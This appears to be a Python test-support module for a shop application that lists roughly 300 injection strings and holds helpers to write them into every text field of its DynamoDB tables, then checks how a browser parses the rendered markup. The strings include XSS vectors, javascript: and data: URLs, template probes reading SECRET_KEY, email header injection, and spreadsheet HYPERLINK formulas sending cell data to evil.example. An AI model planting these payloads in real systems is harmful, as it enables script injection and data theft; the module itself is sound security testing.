"""Texts of people who mean harm, 300 of them, and the doors of the tables through which they come into every text there is."""

import itertools
from collections.abc import Callable, Iterator
from importlib import import_module
from typing import Any

from pynamodb.attributes import ListAttribute, MapAttribute, UnicodeAttribute

from shop.lib.attributes import TextMapAttribute
from shop.lib.tables import Row, connection, table_name

WORD = "zqx"
"""What stands for a text that somebody wrote."""
CALL = "alert(document.domain)"
_BREAKS = ("", '"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</select>")
_MARKUP = (
    f"<script>{CALL}</script>",
    f"<ScRiPt/x>{CALL}//",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<math><mtext><style><img src=x onerror={CALL}></style>",
    f"<details open ontoggle={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f'<a href="javascript:{CALL}">x</a>',
    f'<form action="javascript:{CALL}"><button>x</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>*{background:url("https://evil.example/")}</style>',
    f'<object data="data:text/html,<script>{CALL}</script>">',
    f"<template><script>{CALL}</script></template>",
    f'<div hx-get="/x" hx-trigger="load" onclick={CALL}>',
    "<!--",
)
_ATTRIBUTES = (
    f" onmouseover={CALL} ",
    f" autofocus onfocus={CALL} ",
    " style=position:fixed;inset:0 ",
    " hx-get=/x hx-trigger=load ",
)
_ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    "//evil.example/",
    "\\\\evil.example\\",
)
_TEMPLATES = (
    "{{ 'zq'|add:'zq' }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{# x #}",
    "${7*7}",
    "<%= 7 %>",
    "#{7}",
    "{{constructor}}",
)
_FORMULAS = tuple(
    f'{sign}HYPERLINK("https://evil.example/"&A1)' for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", "'=")
)
_LETTERS = (
    "\u202egnp.exe",
    "\u2066\u2069\u200f",
    "\u200b\u200d\ufeff",
    "\x00\x08\x1b\x7f",
    "\r\nBcc: all@evil.example\r\n\r\n",
    "\u2028\u2029",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-",
    "👩‍👩‍👧",
)
PAYLOADS: tuple[str, ...] = (
    *(f"{broken}{markup}" for broken, markup in itertools.product(_BREAKS, _MARKUP)),
    *(f"{broken}{more}" for broken, more in itertools.product(_BREAKS[1:4], _ATTRIBUTES)),
    *_ADDRESSES,
    *_TEMPLATES,
    *_FORMULAS,
    *_LETTERS,
    *(f"{letters}{markup}" for letters, markup in itertools.product(("\x00", "\u202e", "x" * 300), _MARKUP[:11])),
)
EVALUATED = "zqzq"
"""What would be read where a template came to life."""

_APPS = {
    "accounts": ("models",),
    "cart": ("models",),
    "catalog": ("models", "staff_models", "stock_models", "review_models", "transfer_models", "searched_models"),
    "orders": ("models", "ledger_models", "desk_models", "sold_models"),
}


def text_attributes() -> set[str]:
    """The names of all text attributes of all rows, but for keys."""
    for app, modules in _APPS.items():
        for module in modules:
            import_module(f"{app}.{module}")
    found: set[str] = set()
    for row in _all_below(Row):
        found |= set(_texts(row))
    return {name for name in found if name not in ("PK", "SK") and not name.startswith("GSI")}


def _all_below(cls: type[Any]) -> Iterator[type[Any]]:
    for sub in cls.__subclasses__():
        yield sub
        yield from _all_below(sub)


def _texts(document: Any) -> Iterator[str]:
    for attribute in document.get_attributes().values():
        inner = attribute.element_type if isinstance(attribute, ListAttribute) else None
        if isinstance(attribute, MapAttribute):
            yield from _texts(type(attribute))
        elif inner and issubclass(inner, MapAttribute):
            yield from _texts(inner)
        elif inner or isinstance(attribute, UnicodeAttribute | TextMapAttribute):
            yield attribute.attr_name


def write_over(before: str, after: str, *, tables: tuple[str, ...]) -> set[str]:
    """Put one text for another wherever it is a part of an attribute, but for keys; the names of these attributes."""
    client, met = connection().client, set[str]()

    def changed(name: str, value: dict[str, Any]) -> dict[str, Any]:
        [(kind, content)] = value.items()
        if kind == "S" and before in content:
            met.add(name)
            return {"S": content.replace(before, after)}
        if kind == "L":
            return {"L": [changed(name, one) for one in content]}
        if kind == "M":
            return {"M": {key.replace(before, after): changed(_inner(name, key), one) for key, one in content.items()}}
        return value

    for table in tables:
        pages = client.get_paginator("scan").paginate(TableName=table_name(table), ConsistentRead=True)
        for item in [item for page in pages for item in page["Items"]]:
            new = {name: value if _is_key(name) else changed(name, value) for name, value in item.items()}
            if new != item:
                client.put_item(TableName=table_name(table), Item=new)
    return met


_MAPS_OF_DATA = ("attributes", "options", "imageTexts", "columns", "typedAddress", "typedContact", "typedDelivery")


def _inner(name: str, key: str) -> str:
    return name if name in _MAPS_OF_DATA else key


def _is_key(name: str) -> bool:
    return name in ("PK", "SK") or name.startswith("GSI")


SEEN_BY_A_BROWSER = """markup => {
    const leads = text => {
        try {
            const to = new URL(text, 'https://shop.example/');
            return to.protocol + (to.origin === 'https://shop.example' ? '' : to.host);
        } catch { return 'nowhere'; }
    };
    const addresses = ['href', 'src', 'action', 'formaction', 'data', 'hx-get', 'hx-post'];
    const shown = new DOMParser().parseFromString(markup, 'text/html');
    const elements = [...shown.querySelectorAll('*')];
    return elements.filter(at => at.attributes.length || !['BR', 'P'].includes(at.tagName)).map(at => [
        at.tagName,
        ...[...at.attributes].map(one => one.name).sort(),
        ...addresses.filter(name => at.hasAttribute(name)).map(name => leads(at.getAttribute(name))),
    ].join(' '));
}"""
"""What a browser makes of a page: its elements in their order, the names of their attributes, where their addresses lead."""

Parse = Callable[[str], list[str]]
